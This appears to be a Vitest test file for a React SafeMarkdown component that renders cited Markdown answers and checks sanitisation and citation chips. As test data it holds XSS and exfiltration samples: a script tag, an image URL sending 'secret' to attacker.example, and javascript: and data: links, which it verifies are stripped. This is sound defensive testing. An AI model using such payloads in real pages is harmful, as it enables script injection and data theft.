import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import type { CitedSource } from '../api/types';
import { SafeMarkdown } from './SafeMarkdown';

function source(citation: number, overrides: Partial<CitedSource> = {}): CitedSource {
  return {
    title: `Source ${citation}`,
    url: null,
    snippet: `Passage ${citation}`,
    citation,
    file_name: `s${citation}.md`,
    file_path: `upload/s${citation}.md`,
    document_id: citation * 10,
    ...overrides,
  };
}

function render(text: string, sources: CitedSource[] = []): string {
  return renderToStaticMarkup(createElement(SafeMarkdown, { text, sources }));
}

describe('SafeMarkdown', () => {
  it('renders Markdown with GFM', () => {
    const html = render('**bold** and ~~gone~~\n\n| a | b |\n| - | - |\n| 1 | 2 |');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<del>gone</del>');
    expect(html).toContain('<table>');
  });

  it('shows raw HTML as text, never as markup', () => {
    const html = render(
      '<script>alert(1)</script> <img src="https://attacker.example/x"> <b onclick="x()">b</b>',
    );
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b ');
    expect(html).toContain('&lt;script&gt;');
  });

  it('loads no image, from anywhere', () => {
    const html = render(
      '![secret](https://attacker.example/?d=secret) ![](/local.png) ![x][ref]\n\n[ref]: https://a.example/i.png',
    );
    expect(html).not.toContain('<img');
    expect(html).not.toContain('attacker.example');
    expect(html).toContain('[image: secret]');
    expect(html).toContain('[image]');
  });

  it('keeps only http, https and mailto links, opening in a new tab without referrer', () => {
    const html = render(
      '[a](https://ok.example/) [b](javascript:alert(1)) [c](mailto:x@y.z) [d](data:text/html,x) [e](/v1/auth/tokens)',
    );
    expect(html).toContain('<a href="https://ok.example/" target="_blank" rel="noopener noreferrer">a</a>');
    expect(html).toContain('<a href="mailto:x@y.z" target="_blank" rel="noopener noreferrer">c</a>');
    expect(html).not.toContain('javascript:');
    expect(html).not.toContain('data:text');
    expect(html).not.toContain('/v1/auth');
    expect(html).toContain('<span>b</span>');
  });

  it('sends reference-style links through the same filter', () => {
    const html = render(
      '[click][evil] and [fine][ok]\n\n[evil]: javascript:alert(1)\n[ok]: https://ok.example/',
    );
    expect(html).not.toContain('javascript:');
    expect(html).toContain('<span>click</span>');
    expect(html).toContain('href="https://ok.example/"');
  });

  it('keeps code as code, citations included', () => {
    const html = render('Run `ls [1]`:\n\n```sh\necho "[2]" <b>\n```\n');
    expect(html).toContain('<code>ls [1]</code>');
    expect(html).toContain('<pre><code class="language-sh">echo &quot;[2]&quot; &lt;b&gt;\n</code></pre>');
    expect(html).not.toContain('citation');
  });

  it('turns [n] in text into a chip named [n], described by its source', () => {
    const html = render('Descale monthly [1], see **[2]**.', [
      source(1),
      source(2, { url: 'https://wiki.example/p' }),
    ]);
    expect(html).toMatch(
      /<a href="\/documents\/10" class="citation-chip" aria-describedby="([^"]+)">\[1\]<\/a>/,
    );
    expect(html).toMatch(
      /<a href="https:\/\/wiki.example\/p" target="_blank" rel="noopener noreferrer" class="citation-chip" aria-describedby="[^"]+">\[2\]<\/a>/,
    );
    const describedBy = html.match(/aria-describedby="([^"]+)">\[1\]/)?.[1];
    expect(html).toContain(`role="tooltip" id="${describedBy}"`);
    expect(html).toContain('Source 1');
    expect(html).toContain('Passage 1');
  });

  it('leaves [n] as text until its source is known, and inside links', () => {
    const html = render('Streaming [1] and [link [2]](https://x.example/)');
    expect(html).not.toContain('citation-chip');
    expect(html).toContain('<span class="citation-pending">[1]</span>');
  });

  it('keeps the page to one h1: answer headings start at h3', () => {
    const html = render('# Title\n\n## Part');
    expect(html).toContain('<h3>Title</h3>');
    expect(html).toContain('<h4>Part</h4>');
    expect(html).not.toContain('<h1');
  });
});
